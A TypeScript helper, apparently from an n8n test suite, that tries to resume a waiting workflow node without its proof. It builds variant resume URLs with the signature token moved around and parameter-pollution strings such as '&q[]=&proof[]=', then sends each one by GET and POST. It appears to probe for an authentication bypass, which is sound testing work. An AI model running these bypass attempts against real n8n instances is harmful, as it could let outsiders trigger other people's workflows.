import { httpClient, type AxiosResponse } from '../../../scripts/http';

interface Asleep {
	/** `{{ $execution.resumeUrl }}`; n8n 1 has no token in it. */
	resumeUrl: string;
	nodeId: string;
}

const guesses = ['', '&q=&proof=', '&q[]=&proof[]=', '&q=undefined&proof=undefined', '&q&q&proof'];

/** Calls a waiting node with n8n's token of the execution, and without the proof of the node. */
export async function tryBypasses(
	{ resumeUrl, nodeId }: Asleep,
	fields: Record<string, string>,
): Promise<Array<AxiosResponse<string>>> {
	const { origin, pathname, searchParams } = new URL(resumeUrl);
	const token = searchParams.get('signature') ?? '';
	const urls = [
		`${origin}${pathname}?signature=${token}/${nodeId}`,
		`${origin}${pathname}/${nodeId}?signature=${token}`,
		`${origin}${pathname}/${nodeId}?signature=${token}/${nodeId}`,
	];
	const form = new URLSearchParams(fields).toString();
	const plainly = { validateStatus: () => true, responseType: 'text' as const };
	const responses: Array<AxiosResponse<string>> = [];
	for (const url of urls.flatMap((one) => guesses.map((guess) => `${one}${guess}`))) {
		responses.push(await httpClient.get<string>(`${url}&${form}`, plainly));
		responses.push(await httpClient.post<string>(url, form, plainly));
	}
	return responses;
}
